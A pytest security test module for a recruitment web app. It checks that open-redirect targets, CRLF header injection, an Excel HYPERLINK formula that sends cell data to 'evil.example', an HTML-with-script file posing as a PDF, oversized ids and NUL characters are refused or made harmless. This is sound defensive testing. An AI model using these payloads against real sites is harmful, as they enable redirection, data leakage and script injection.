"""Requests an attacker shapes, through the real pages and the API, on both databases: a
redirect target that leaves the site, a title Excel would run as a formula, a web page
dressed as a signed scan, an id beyond what its column holds. Each is refused or made
harmless, and the ordinary request beside it still works."""

import base64
import io
import re
import struct
import zipfile
import zlib
from datetime import date

import pytest
from factories.campaigns import open_campaign
from factories.commitments import C1, C2, open_round, recruitment_round, selected_candidate
from factories.dates import local
from factories.tasks import inbox
from factories.web import PASSWORD, csrf_token, signed_in, web_app
from openpyxl import load_workbook
from sqlalchemy import func, select, update
from werkzeug.http import parse_options_header

from engine.models import ProcessInstance
from services.commitments import _commitments as commitments
from services.documents import StoredDocument
from services.identity import _api_tokens as api_tokens


@pytest.fixture
def app(commune):
    commune.clock.set(local(2026, 1, 12, 9, 0))
    return web_app(commune)


# -- redirects ----------------------------------------------------------------------------------

# Targets a browser takes to another site: it drops tabs and line breaks anywhere in a URL
# and reads a backslash as a slash. Line breaks would also split the Location header.
LEAVING = [
    "/\t/evil.example",
    "/\r\n/evil.example",
    "/\n\nSet-Cookie: x=1",
    "/\\evil.example",
    "\\/evil.example",
    "//evil.example",
    "https://evil.example/",
    " //evil.example",
]


def _sign_in(app, next_target: str):
    client = app.test_client()
    return client.post(
        "/login",
        query_string={"next": next_target},
        data={"username": "cg_vp.canbo", "password": PASSWORD, "csrf_token": csrf_token(client)},
    )


def test_sign_in_goes_on_to_a_path_of_this_site_only(app):
    for target in LEAVING:
        answer = _sign_in(app, target)
        assert (answer.status_code, answer.headers["Location"]) == (302, "/inbox"), repr(target)
    assert _sign_in(app, "/inbox?queue=mine").headers["Location"] == "/inbox?queue=mine"


def test_the_language_switch_and_a_claim_go_on_to_a_path_of_this_site_only(app, commune):
    open_campaign(commune)
    task_id = inbox(commune, "cg_vp.canbo")[0].id
    client = signed_in(app, "cg_vp.canbo")
    token = csrf_token(client, "/inbox")
    for target in LEAVING:
        answer = client.post("/language/en", data={"next": target, "csrf_token": token})
        assert (answer.status_code, answer.headers["Location"]) == (302, "/inbox"), repr(target)
    back = client.post("/language/vi", data={"next": f"/tasks/{task_id}?tab=history", "csrf_token": token})
    assert back.headers["Location"] == f"/tasks/{task_id}?tab=history"

    claimed = client.post(f"/tasks/{task_id}/claim", data={"next": LEAVING[0], "csrf_token": token})
    assert (claimed.status_code, claimed.headers["Location"]) == (302, "/inbox")
    assert client.post(f"/tasks/{task_id}/release", data={"csrf_token": token}).status_code == 302
    claimed = client.post(f"/tasks/{task_id}/claim", data={"next": f"/tasks/{task_id}", "csrf_token": token})
    assert claimed.headers["Location"] == f"/tasks/{task_id}"


# -- the Excel export ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "title, formula_like",
    [
        ('=HYPERLINK("http://evil.example/?d="&A3,"Bấm để xem chi tiết")', True),
        ("-2+3 đơn vị bổ sung", True),
        ("Đề xuất nhu cầu thu hút nhân tài năm 2026", False),
    ],
)
def test_the_aggregation_workbook_holds_every_title_as_text(app, commune, title, formula_like):
    campaign_id = open_campaign(commune, title=title)
    download = signed_in(app, "vhxh.canbo").get(f"/campaigns/{campaign_id}/aggregation.xlsx")
    assert download.status_code == 200
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(download.data)).read(
        "xl/worksheets/sheet1.xml"
    )  # no formula
    cell = load_workbook(io.BytesIO(download.data)).active["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (title, "s", formula_like)


# -- signed scans -------------------------------------------------------------------------------


def _pdf() -> bytes:
    """A one-page blank PDF, every part where a reader looks for it."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    content, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    content += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return content + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )


def _png() -> bytes:
    """One white pixel."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(b"\x00\xff"))
        + chunk(b"IEND", b"")
    )


# One white pixel as Chromium encodes it (its colour profile left out).
JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAFA3PEY8MlBGQUZaVVBfeMiCeG5uePWvuZHI////////////////////////////////////////"
    "////////////2wBDAVVaWnhpeOuCguv/////////////////////////////////////////////////////////////////////////wAAR"
    "CAABAAEDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAT/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFAEBAAAAAAAAAAAAAAAAAAAAAP/E"
    "ABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/ALQAf//Z"
)
HTML_AS_PDF = b"%PDF-1.4\n<html><body><script>fetch('/talents?q=')</script></body></html>\n%%EOF\n"
C3 = {**C1, "full_name": "Lê Hoàng Nam", "citizen_id": "999201000333"}


def _upload(client, commitment_id: int, content: bytes, filename: str):
    return client.post(
        f"/commitments/{commitment_id}/signed-scan",
        data={
            "csrf_token": csrf_token(client, f"/commitments/{commitment_id}"),
            "file": (io.BytesIO(content), filename),
        },
        content_type="multipart/form-data",
    )


def test_a_signed_scan_is_kept_and_served_as_what_it_is_never_as_a_web_page(commune, app):
    round_id = recruitment_round(commune)
    for person in (C1, C2, C3):
        selected_candidate(commune, round_id, person)
    awaiting = open_round(commune, round_id, date(2026, 3, 16), local(2026, 3, 16, 15, 0))
    officer = signed_in(app, "snv.canbo")

    for content, refusal in (
        (HTML_AS_PDF, "chứa mã trang web (HTML, script)"),
        (b"%PDF-1.4\nthe rest of a PDF never came\n", "phải là PDF hoặc ảnh"),
    ):
        body = officer.get(
            _upload(officer, awaiting[0], content, "ban-cam-ket.pdf").headers["Location"]
        ).get_data(as_text=True)  # refused: back to the commitment's page, which says why
        assert refusal in body
        assert re.search(r'id="scan-file"[^>]*aria-invalid="true"', body)  # the field is named
    with commune.db.read() as session:
        assert (
            session.scalar(
                select(func.count())
                .select_from(StoredDocument)
                .where(StoredDocument.kind == "signed_commitment")
            )
            == 0
        )

    scans = [
        (_pdf(), "ban-cam-ket.html", "ban-cam-ket.pdf", "application/pdf"),
        (_png(), "scan.pdf", "scan.png", "image/png"),
        (JPEG, "scan.jpeg", "scan.jpg", "image/jpeg"),
    ]
    for commitment_id, (content, uploaded_as, served_as, media_type) in zip(awaiting, scans):
        assert _upload(officer, commitment_id, content, uploaded_as).status_code == 302
        with commune.db.read() as session:
            scan_id = commitments.get_commitment(session, commitment_id).signed_document_id
        download = officer.get(f"/commitments/{commitment_id}/documents/{scan_id}")
        assert (download.data, download.mimetype) == (content, media_type)
        assert parse_options_header(download.headers["Content-Disposition"])[1]["filename"] == served_as

    # A scan kept under its uploaded name before this check existed is served as what it is too.
    with commune.db.transaction() as session:
        session.execute(
            update(StoredDocument).where(StoredDocument.id == scan_id).values(filename="scan.html")
        )
    download = officer.get(f"/commitments/{awaiting[-1]}/documents/{scan_id}")
    assert parse_options_header(download.headers["Content-Disposition"])[1]["filename"] == "scan.jpg"


# -- ids in URLs --------------------------------------------------------------------------------

BEYOND = (2**31, 2**63, 2**64 + 1)  # an id column holds 2**31 - 1 at most on PostgreSQL


def test_an_id_beyond_its_column_is_not_found_and_one_in_range_is_served(commune, app):
    campaign_id = open_campaign(commune)
    with commune.db.transaction() as session:
        admin = {"Authorization": f"Bearer {api_tokens.issue(session, 'admin', 'api', commune.clock.now())}"}
        officer = {
            "Authorization": f"Bearer {api_tokens.issue(session, 'vhxh.canbo', 'api', commune.clock.now())}"
        }
        instance_id = session.scalar(select(func.max(ProcessInstance.id)))
    api = app.test_client()
    for too_large in BEYOND:
        for path, headers in (
            (f"/api/v1/instances/{too_large}", admin),
            (f"/api/v1/campaigns/{too_large}", officer),
        ):
            answer = api.get(path, headers=headers)
            assert (answer.status_code, answer.get_json()["code"]) == (404, "not_found"), path
    assert api.get(f"/api/v1/instances/{instance_id}", headers=admin).get_json()["id"] == instance_id
    assert api.get(f"/api/v1/campaigns/{campaign_id}", headers=officer).status_code == 200
    assert api.get(f"/api/v1/tasks?campaign={2**31}", headers=officer).status_code == 422

    board = signed_in(app, "vhxh.canbo")
    for too_large in BEYOND:
        for path in (
            f"/campaigns/{too_large}",
            f"/campaigns/{too_large}/aggregation.xlsx",
            f"/commitments/{too_large}",
            f"/talents/{too_large}",
        ):
            assert board.get(path).status_code == 404, path
    assert board.get("/tasks/%00").status_code == 404  # no task id holds a control character
    assert board.get(f"/campaigns/{campaign_id}").status_code == 200
    # A number in a query string beyond any id is ignored, like any other nonsense there.
    assert board.get(f"/inbox?campaign={2**31}&page={2**64}").status_code == 200


# -- NUL characters -------------------------------------------------------------------------------


def test_text_holding_a_nul_character_is_refused_not_a_server_error(app, commune):
    """PostgreSQL stores no NUL: a query, a form field, a JSON value or a file name holding one."""
    open_campaign(commune)
    officer = signed_in(app, "cg_vp.canbo")
    snv = signed_in(app, "snv.canbo")
    with commune.db.transaction() as session:
        bearer = {
            "Authorization": f"Bearer {api_tokens.issue(session, 'cg_vp.canbo', 'api', commune.clock.now())}"
        }
    assert officer.get("/inbox", query_string={"process": "unit\x00proposal"}).status_code == 400
    answer = app.test_client().get("/api/v1/tasks", query_string={"process": "\x00"}, headers=bearer)
    assert (answer.status_code, answer.get_json()["code"]) == (400, "bad_request")
    search = snv.post(
        "/api/v1/talents/search", json={"q": "Nguyễn\x00"}, headers={"X-CSRFToken": csrf_token(snv, "/inbox")}
    )
    assert search.status_code == 400
    client = app.test_client()
    sign_in = client.post(
        "/login", data={"username": "cg_vp.canbo\x00", "password": PASSWORD, "csrf_token": csrf_token(client)}
    )
    assert sign_in.status_code == 400

    # The same requests without the NUL still work.
    assert officer.get("/inbox", query_string={"process": "unit_proposal"}).status_code == 200
    assert (
        app.test_client()
        .get("/api/v1/tasks", query_string={"process": "unit_proposal"}, headers=bearer)
        .status_code
        == 200
    )
    assert (
        snv.post(
            "/api/v1/talents/search", json={"q": "Nguyễn"}, headers={"X-CSRFToken": csrf_token(snv, "/inbox")}
        ).status_code
        == 200
    )
    assert _sign_in(app, "/inbox").status_code == 302
